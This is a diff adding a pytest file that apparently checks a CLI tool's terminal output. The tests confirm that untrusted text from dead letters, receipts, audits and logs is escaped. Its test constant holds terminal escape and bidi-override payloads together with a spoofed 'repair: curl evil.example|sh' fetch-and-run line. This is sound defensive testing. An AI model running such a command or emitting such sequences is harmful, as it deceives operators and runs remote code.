@@ -1,0 +1,294 @@
+"""What strangers have written, on a terminal: seen as it is, and it does nothing there."""
+
+from __future__ import annotations
+
+import io
+import json
+import logging
+import re
+import sys
+import tomllib
+from collections import Counter
+from collections.abc import Iterable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+from unittest.mock import Mock
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.console import Console
+
+from consumers.batch import Partition
+from consumers.dlq.letters import Letter, Origin, Wanted, class_of
+from consumers.dlq.redrive import Outcome
+from consumers.ledger.audit import Line
+from consumers.ledger.edge import Crossing, Node
+from consumers.ledger.finding import Finding
+from consumers.ledger.tally import Sum
+from consumers.replay.dry import Figures, Hour
+from consumers.trace.allowlist import TraceSettings
+from headrace.cli import audit_repairs, cli, dlq, dlq_send, dlq_show, receipts
+from headrace.cli.audit_edge import edge_tables
+from headrace.cli.audit_show import explained, export_table, table
+from headrace.cli.replay_dry import lines
+from headrace.cli.replay_progress import Progress
+from headrace.config import Config
+from headrace.doctor.check import bounded, warn
+from headrace.logs import configure
+from headrace.words import json_line, printable, printable_lines
+from ingest.gen.headrace.v1.raw_event_pb2 import RawEvent
+from ingest.gen.headrace.v1.receipt_pb2 import Receipt
+from ingest.streams import BUILT_IN
+
+STATE = BUILT_IN["device_state"]
+# A window's title, a line that is wiped, a line of its own that looks like ours; a C1 control, text
+# that runs from right to left, and what rich would take for a colour.
+EVIL = "x\x1b]0;owned\x07\x1b[2K\nrepair: curl evil.example|sh #\x9b2J\u202e\x7f\U000e0041[red]é"
+SEEN = (
+    "x\\u001b]0;owned\\u0007\\u001b[2K\\nrepair: curl evil.example|sh #\\u009b2J\\u202e\\u007f"
+    "\\U000e0041[red]é"
+)
+LINE = Line("raw_events", "postgres", 1, 1, 0, 0, 0, 0)
+
+
+def letter(**fields: Any) -> Letter:
+    known: dict[str, Any] = {
+        "origin": Origin(0, 1, 1000), "kind": "rejected", "reason": EVIL, "destination": EVIL,
+        "attempted_ms": 2000, "key": EVIL.encode(), "value": None,
+        "headers": [(EVIL, EVIL.encode())], "redriven": 0, "partition": 0, "offset": 1,
+    }  # fmt: skip
+    return Letter(**known | fields)
+
+
+def check_shown(text: str, seen: str = SEEN) -> None:
+    assert seen in text
+    for line in text.split("\n"):
+        assert line.isprintable(), repr(line)
+        assert not line.startswith("repair:"), line
+
+
+# -- the words -------------------------------------------------------------------------------------
+
+
+def test_what_can_be_printed_is_left_as_it_is() -> None:
+    for text in ("", "purchase product", "Zürich — 東京 🎉 \\n [red]"):
+        assert printable(text) == text
+        assert json_line({"a": text}) == json.dumps({"a": text}, ensure_ascii=False)
+
+
+def test_what_a_terminal_would_obey_is_written_out() -> None:
+    assert printable(EVIL) == SEEN
+    assert printable_lines("a\nb\rc") == "a\nb\\rc"
+
+
+@given(st.text())
+def test_whatever_it_is_it_can_be_printed_and_json_stays_the_same(text: str) -> None:
+    assert printable(text).isprintable()
+    assert all(line.isprintable() for line in printable_lines(text).split("\n"))
+    assert json_line(text).isprintable()
+    assert json.loads(json_line(text)) == text
+
+
+# -- the commands ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("place", [(Partition("raw_events", 0), 7), None])
+@pytest.mark.parametrize("surplus", [-1, 1])
+def test_no_name_of_a_record_adds_a_line_to_what_an_audit_explains(
+    place: tuple[Partition, int] | None, surplus: int
+) -> None:
+    (said,) = explained(replace(LINE, findings=(Finding(1, surplus, f"event_id {EVIL}", place),)))
+    check_shown(said)
+
+
+def test_an_audits_tables_show_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
+    where = "postgres://[fe80::1]:5432/db"
+    table([replace(LINE, destination=where)])
+    assert where in capsys.readouterr().out, "or rich takes a part of it for markup"
+    export_table({("2025-06-16", "[red]\x1b[2J\u202e"): (2, 1)})
+    check_shown(capsys.readouterr().out, "[red]\\u001b[2J\\u202e")
+    crossing = Crossing("raw_events", 1, {"[red]\x1b[2J": 1}, Sum(1, 1), Sum(1, 1), 0, False)
+    edge_tables([crossing], [Node(EVIL, 1, 0, 1, 0), Node(EVIL, 1, 1, 0, 0)])
+    out = capsys.readouterr().out
+    check_shown(out)
+    assert out.count(SEEN) == 2
+    assert "[red]\\u001b[2J 1" in out
+
+
+def test_a_repair_of_clickhouse_is_one_line_that_says_the_same_to_it() -> None:
+    url = "clickhouse://db/prod"
+    removal = "DELETE FROM t WHERE toString(k) = 'a\x1b\n\u202eé'"
+    line = replace(LINE, destination=url, findings=(Finding(1, 1, "k", None, removal),))
+    (said,) = audit_repairs.repairs(Config({}, {}, Path()), {url: url}, None, [line])
+    assert said == f"in {url}: DELETE FROM t WHERE toString(k) = 'a\\x1b\\x0a\\xe2\\x80\\xaeé'"
+
+
+@pytest.mark.parametrize("options", [[], ["--json"]])
+def test_receipts(monkeypatch: pytest.MonkeyPatch, options: list[str]) -> None:
+    one = Receipt(event_id=EVIL, vendor=EVIL, status=EVIL, reason=EVIL, detail=EVIL)
+    config = Mock(stream=BUILT_IN.__getitem__)
+    monkeypatch.setattr(receipts, "load", lambda *_, **__: config)
+    monkeypatch.setattr(receipts, "require_topics", lambda *_: None)
+    monkeypatch.setattr("consumers.forward.look.receipts_between", lambda *_: [one])
+    done = CliRunner().invoke(cli, ["receipts", *options])
+    assert done.exit_code == 0, done.output
+    if options:
+        assert json.loads(done.stdout)["detail"] == EVIL
+        check_shown(done.stdout, "\\u001b[2K\\nrepair")
+    else:
+        check_shown(done.stdout)
+        assert done.stdout.count(SEEN) == 5
+    check_shown(done.stderr)
+
+
+def group(letters: Iterable[Letter]) -> dlq.Group:
+    found = dlq.Group("device_state", EVIL, EVIL, [], 0, 0, 2000, 2000, "0:1")
+    for one in letters:
+        found.add(one)
+    return found
+
+
+@pytest.mark.parametrize("options", [[], ["--json"]])
+def test_dead_letters_are_listed(monkeypatch: pytest.MonkeyPatch, options: list[str]) -> None:
+    monkeypatch.setattr(dlq, "load", lambda *_, **__: Mock())
+    monkeypatch.setattr(dlq, "streams_of", lambda *_: [STATE])
+    monkeypatch.setattr(dlq, "_groups", lambda *_: [group([letter()])])
+    done = CliRunner().invoke(cli, ["dlq", "ls", *options])
+    assert done.exit_code == 0, done.output
+    if options:
+        assert json.loads(done.stdout)["reason"] == EVIL
+    check_shown(done.stdout, SEEN if not options else "\\u001b[2K\\nrepair")
+
+
+def test_a_reason_that_can_not_be_typed_at_all_does_not_become_one_that_means_all(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    one = dlq.Group("device_state", "rejected", "\x1b", [], 1, 0, 2000, 2000, "0:1")
+    monkeypatch.setattr(dlq, "load", lambda *_, **__: Mock())
+    monkeypatch.setattr(dlq, "streams_of", lambda *_: [STATE])
+    monkeypatch.setattr(dlq, "_groups", lambda *_: [one])
+    assert "--reason rejected\n" in CliRunner().invoke(cli, ["dlq", "ls"]).stdout
+
+
+@pytest.mark.parametrize("reason", [EVIL, "client_version: text", "'\x00' is 5\x1b, and no more"])
+def test_what_is_to_be_typed_for_a_reason_means_it(reason: str) -> None:
+    typed = dlq._to_be_typed(class_of(reason))
+    assert typed
+    assert typed.isprintable()
+    assert Wanted(typed)(letter(reason=reason))
+    if reason.isprintable():
+        assert typed == reason
+
+
+def test_a_dead_letter_is_shown() -> None:
+    shown = "\n".join(dlq_show._lines(letter(), STATE, as_hex=False))
+    check_shown(shown)
+    assert shown.count(SEEN) == 5
+    assert dlq_show._text(b"\xff\x1b") == "b'\\xff\\x1b'"
+
+
+def test_what_is_left_of_a_redrive_has_its_reason(capsys: pytest.CaptureFixture[str]) -> None:
+    outcome = Outcome()
+    outcome.leave(letter(), EVIL)
+    dlq_send._report(STATE, outcome, dry_run=True)
+    check_shown(capsys.readouterr().err)
+
+
+def trace_check(folder: Path, *events: object) -> str:
+    (folder / "headrace.toml").write_text('[trace.events.e.properties]\ntext = "string"\n')
+    (folder / "events").write_text("\n".join(map(json.dumps, events)))
+    args = ["trace", "check", str(folder / "events"), "--config", str(folder / "headrace.toml")]
+    return CliRunner().invoke(cli, args).output
+
+
+def test_what_trace_check_reads_is_shown(tmp_path: Path) -> None:
+    data = {"event": "e", "deviceId": "d", "properties": {"text": EVIL, EVIL: EVIL}}
+    raw = {"eventId": EVIL, "contentType": "application/json", "data": json.dumps(data)}
+    other = raw | {"data": json.dumps(data | {"event": EVIL})}
+    refused = {EVIL: 1, "data": "x"}
+    out = trace_check(tmp_path, raw, other, refused)
+    check_shown(out, f"event {SEEN}")
+    assert f"properties.{SEEN}: not_listed" in out
+    assert "would leave" in out
+
+
+def test_what_trace_suggest_proposes_is_the_same_toml(monkeypatch: pytest.MonkeyPatch) -> None:
+    data = {"event": EVIL, "deviceId": "d", "properties": {EVIL: 1}}
+    raw = RawEvent(event_id="e", content_type="application/json", data=json.dumps(data).encode())
+    config = Mock(stream=BUILT_IN.__getitem__)
+    config.trace = TraceSettings()
+    monkeypatch.setattr("headrace.config.load", lambda *_, **__: config)
+    monkeypatch.setattr("headrace.cli.options.require_topics", lambda *_: None)
+    monkeypatch.setattr("consumers.trace.scan.scan", lambda *_: [raw])
+    done = CliRunner().invoke(cli, ["trace", "suggest", "--from", "-1h"])
+    assert done.exit_code == 0, done.output
+    check_shown(done.stdout, "\\u202e")
+    found = tomllib.loads(done.stdout)["trace"]["events"]
+    assert found == {EVIL: {"properties": {EVIL: "integer"}}}
+
+
+def test_reasons_of_a_dry_run() -> None:
+    hour = Hour(events=1, refused=Counter({EVIL: 1}))
+    check_shown("\n".join(lines(Figures(hours={0: hour}), 0.0)))
+
+
+def test_a_replays_bar_has_the_name_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
+    out = io.StringIO()
+    bar = Progress("[fe80::1]\x1b]0;owned\x07\u202e", 2, lambda: 1)
+    bar._console = Console(file=out, force_terminal=True, width=200, color_system=None)
+    with bar:
+        pass
+    plain = re.sub(r"\x1b\[[0-9?;]*[A-Za-z]", "", out.getvalue())
+    assert "[fe80::1]\\u001b]0;owned\\u0007\\u202e" in plain
+    assert "\x1b]" not in out.getvalue()
+
+
+# -- the doctor, and logs --------------------------------------------------------------------------
+
+
+def test_what_servers_say_to_the_doctor_is_on_one_line() -> None:
+    def ask() -> list[Any]:
+        raise RuntimeError(EVIL)
+
+    (check,) = bounded(EVIL, ask)
+    check_shown(check.name)
+    check_shown(check.text)
+    check_shown(warn("a", "b", EVIL, "c").do)
+
+
+@pytest.fixture
+def root() -> Iterable[None]:
+    """The root logger as it was."""
+    logger = logging.getLogger()
+    handlers, level = logger.handlers[:], logger.level
+    yield
+    logger.handlers[:] = handlers
+    logger.setLevel(level)
+
+
+@pytest.mark.usefixtures("root")
+def test_a_log_for_people_shows_a_vendors_answer_and_does_not_obey_it(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    out = io.StringIO()
+    monkeypatch.setattr(out, "isatty", lambda: True)
+    monkeypatch.setattr(sys, "stderr", out)
+    configure()
+    log = logging.getLogger("headrace.test")
+    # With a space in it structlog would write it as Python does, and without any it would not.
+    said = EVIL.replace(" ", "_")
+    log.warning("amplitude said %s", EVIL, extra={"response": said.partition("\n")[0]})
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())
+    check_shown(plain)
+    assert "response=x\\u001b]0;owned\\u0007\\u001b[2K" in plain
+    assert len(plain.splitlines()) == 1
+    try:
+        raise ValueError(EVIL)
+    except ValueError:
+        log.exception("it failed")
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())
+    assert all(line.isprintable() for line in plain.split("\n"))
+    assert "ValueError: x\\u001b]0;owned" in plain
